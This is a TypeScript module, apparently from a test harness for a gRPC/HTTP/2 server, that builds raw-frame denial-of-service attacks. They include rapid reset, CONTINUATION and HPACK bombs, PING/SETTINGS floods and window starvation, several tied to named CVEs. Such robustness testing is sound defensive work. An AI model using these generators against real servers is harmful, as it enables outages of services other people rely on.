/** Attacks below the call: frames, header blocks and windows, by the names under which they became known. */
import { frame as grpcFrame } from '../support/grpc-client.ts';
import {
  ERROR_CODE,
  FLAG,
  FRAME,
  GREETING,
  plainBlock,
  rawFrame,
  SEND_BLOCK,
  SEND_FIELDS,
} from '../support/raw-http2.ts';
import { type Attack, firstStream, STREAMS_PER_PIECE } from './attack.ts';

const { END_HEADERS, END_STREAM } = FLAG;
const NOTHING = new Uint8Array(0);
/** A request without readings: valid, and answered with OK. */
const EMPTY_CALL = grpcFrame(NOTHING);

const u32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
};
const times = (count: number, part: (i: number) => Uint8Array): Buffer =>
  Buffer.concat(Array.from({ length: count }, (_, i) => part(i)));
/** The streams of piece `n`, each with what `part` makes of it. */
const onEachStream = (n: number, part: (streamId: number) => Uint8Array): Buffer =>
  times(STREAMS_PER_PIECE, (i) => part(firstStream(n) + 2 * i));

const headers = (streamId: number, flags: number = END_HEADERS, block: Uint8Array = SEND_BLOCK): Buffer =>
  rawFrame(FRAME.HEADERS, flags, streamId, block);
const reset = (streamId: number): Buffer => rawFrame(FRAME.RST_STREAM, 0, streamId, u32(ERROR_CODE.CANCEL));
const update = (streamId: number, increment: number): Buffer =>
  rawFrame(FRAME.WINDOW_UPDATE, 0, streamId, u32(increment));
const call = (streamId: number): Buffer =>
  Buffer.concat([headers(streamId), rawFrame(FRAME.DATA, END_STREAM, streamId, EMPTY_CALL)]);
/** One frame, again and again; the same bytes for every piece. */
const flood = (part: Uint8Array, count = 500): ((n: number) => Uint8Array) => {
  const piece = times(count, () => part);
  return () => piece;
};
/** What has a beginning and then repeats. */
const after = (first: Uint8Array, then: Uint8Array): ((n: number) => Uint8Array) => {
  return (n) => (n === 0 ? first : then);
};

export const frameAttacks: readonly Attack[] = [
  {
    name: 'rapid reset',
    what: 'opens calls and cancels them before they can be answered (CVE-2023-44487)',
    piece: (n) => onEachStream(n, (id) => Buffer.concat([headers(id), reset(id)])),
  },
  {
    name: 'made to reset',
    what: 'opens calls and breaks a rule on each, so that the server does the resetting (CVE-2025-8671)',
    piece: (n) => onEachStream(n, (id) => Buffer.concat([headers(id), update(id, 0)])),
  },
  {
    name: 'HEADERS flood',
    what: 'opens calls beyond every limit and finishes none',
    piece: (n) => onEachStream(n, (id) => headers(id)),
  },
  {
    name: 'unknown methods',
    what: 'calls what nobody serves',
    piece: (n) => {
      const fields = SEND_FIELDS.map(
        ([name, value]) => [name, name === ':path' ? `/no.such/${n}` : value] as const,
      );
      const block = plainBlock(fields);
      return onEachStream(n, (id) => headers(id, END_HEADERS | END_STREAM, block));
    },
  },
  {
    name: 'CONTINUATION flood',
    what: 'a header block that never ends (CVE-2024-27316)',
    piece: after(
      headers(1, 0),
      times(100, () => rawFrame(FRAME.CONTINUATION, 0, 1, plainBlock([['x', 'y'.repeat(100)]]))),
    ),
  },
  {
    name: 'empty CONTINUATION flood',
    what: 'a header block that never ends and never grows',
    piece: after(
      headers(1, 0),
      times(500, () => rawFrame(FRAME.CONTINUATION, 0, 1)),
    ),
  },
  {
    name: 'HPACK bomb',
    what: 'one large field in the table, referred to thousands of times (CVE-2016-6581)',
    piece: (n) =>
      onEachStream(n, (id) =>
        headers(
          id,
          END_HEADERS | END_STREAM,
          n === 0 && id === 1
            ? Buffer.concat([
                SEND_BLOCK,
                Buffer.from([0x40, 1, 0x78, 0x7f, 0xa1, 0x1e]),
                Buffer.alloc(4000, 'b'),
              ])
            : Buffer.concat([SEND_BLOCK, Buffer.alloc(8000, 0xbe)]),
        ),
      ),
  },
  {
    name: 'HPACK table churn',
    what: 'new table entries with every call, so that each evicts the ones before',
    piece: (n) =>
      onEachStream(n, (id) =>
        headers(
          id,
          END_HEADERS | END_STREAM,
          Buffer.concat([
            SEND_BLOCK,
            ...Array.from({ length: 20 }, (_, i) =>
              Buffer.concat([
                Buffer.from([0x40, 8]),
                Buffer.from(`x-${i}`.padEnd(8, 'y')),
                Buffer.from([4]),
                u32(id),
              ]),
            ),
          ]),
        ),
      ),
  },
  {
    name: 'HPACK resizing',
    what: 'changes the size of the table again and again within one block',
    piece: (n) =>
      onEachStream(n, (id) =>
        headers(id, END_HEADERS | END_STREAM, Buffer.concat([Buffer.alloc(2000, 0x20), SEND_BLOCK])),
      ),
  },
  {
    name: 'HPACK integer',
    what: 'a string length that never ends',
    piece: () => headers(1, END_HEADERS, Buffer.concat([Buffer.from([0, 0x7f]), Buffer.alloc(4000, 0xff)])),
  },
  {
    name: 'long fields',
    what: 'header lists beyond the limit with every call',
    piece: (n) => {
      const block = Buffer.concat([SEND_BLOCK, plainBlock([['x-long', 'v'.repeat(15_000)]])]);
      return onEachStream(n, (id) => headers(id, END_HEADERS | END_STREAM, block));
    },
  },
  {
    name: 'window overflow',
    what: 'raises our window beyond 2^31-1',
    piece: () => times(10, () => update(0, 0x7fff_ffff)),
  },
  {
    name: 'beyond the window',
    what: 'sends more than it was granted, on one call after the other',
    piece: (n) =>
      Buffer.concat([
        headers(firstStream(n)),
        rawFrame(FRAME.DATA, 0, firstStream(n), EMPTY_CALL),
        times(32, () => rawFrame(FRAME.DATA, 0, firstStream(n), Buffer.alloc(16_384))),
      ]),
  },
  {
    name: 'window starvation',
    what: 'asks for answers and grants no window for them',
    greeting: Buffer.concat([GREETING, rawFrame(FRAME.SETTINGS, 0, 0, [0, 4, 0, 0, 0, 0])]),
    piece: (n) => onEachStream(n, call),
  },
  {
    name: 'windows of one byte',
    what: 'grants a byte at a time (CVE-2019-9511)',
    greeting: Buffer.concat([GREETING, rawFrame(FRAME.SETTINGS, 0, 0, [0, 4, 0, 0, 0, 0])]),
    piece: (n) =>
      n % 2 === 0 ? onEachStream(n, call) : onEachStream(n - 1, (id) => times(5, () => update(id, 1))),
  },
  {
    name: 'window updates',
    what: 'WINDOW_UPDATE of one byte, without end',
    piece: flood(update(0, 1)),
  },
  {
    name: 'settings juggling',
    what: 'changes the initial window of all open calls with every frame',
    piece: (n) =>
      n === 0
        ? onEachStream(0, (id) => headers(id))
        : times(200, (i) => rawFrame(FRAME.SETTINGS, 0, 0, [0, 4, 0, 0, i & 0xff, 0])),
  },
  {
    name: 'SETTINGS flood',
    what: 'each has to be acknowledged (CVE-2019-9515)',
    piece: flood(rawFrame(FRAME.SETTINGS, 0, 0)),
  },
  {
    name: 'PING flood',
    what: 'each has to be answered (CVE-2019-9512)',
    piece: flood(rawFrame(FRAME.PING, 0, 0, new Uint8Array(8))),
  },
  {
    name: 'PING flood, deaf',
    what: 'the same, and never reads an answer',
    piece: flood(rawFrame(FRAME.PING, 0, 0, new Uint8Array(8))),
    isDeaf: true,
  },
  {
    name: 'PRIORITY flood',
    what: 'frames without effect (CVE-2019-9513)',
    piece: flood(rawFrame(FRAME.PRIORITY, 0, 1, [0, 0, 0, 0, 1])),
  },
  {
    name: 'unknown frames',
    what: 'frames that must be ignored',
    piece: flood(rawFrame(0xbb, 0, 0, new Uint8Array(50))),
  },
  {
    name: 'empty DATA',
    what: 'DATA without data, which costs no window (CVE-2019-9518)',
    piece: after(
      headers(1),
      times(500, () => rawFrame(FRAME.DATA, 0, 1)),
    ),
  },
  {
    name: 'GOAWAY flood',
    what: 'says goodbye and stays',
    piece: flood(rawFrame(FRAME.GOAWAY, 0, 0, new Uint8Array(8))),
  },
  {
    name: 'frame of 16 MiB',
    what: 'announces the largest frame there can be',
    piece: (n) => (n === 0 ? rawFrame(FRAME.DATA, 0, 1, NOTHING, 0xff_ffff) : Buffer.alloc(16_384)),
  },
  {
    name: 'padding beyond the frame',
    what: 'pad length larger than what it pads',
    piece: () => Buffer.concat([headers(1), rawFrame(FRAME.DATA, FLAG.PADDED, 1, [255, 0])]),
  },
  {
    name: 'a deaf caller',
    what: 'calls and never reads an answer',
    piece: (n) => onEachStream(n, call),
    isDeaf: true,
  },
  {
    name: 'connection churn',
    what: 'connects, says hello, hangs up',
    piece: () => undefined,
    hangsUp: true,
  },
  {
    name: 'silent connections',
    what: 'connects and says nothing',
    greeting: NOTHING,
    piece: () => undefined,
  },
  {
    name: 'a byte at a time',
    what: 'says hello one byte at a time and never gets to the point',
    greeting: NOTHING,
    piece: (n) => GREETING.subarray(n, n + 1),
    pauseMs: 20,
  },
  {
    name: 'not HTTP/2',
    what: 'noise in place of a preface',
    greeting: Buffer.from('GET / HTTP/1.1\r\nHost: sink\r\n\r\n'),
    piece: () => Buffer.alloc(4096, 0xa5),
  },
];
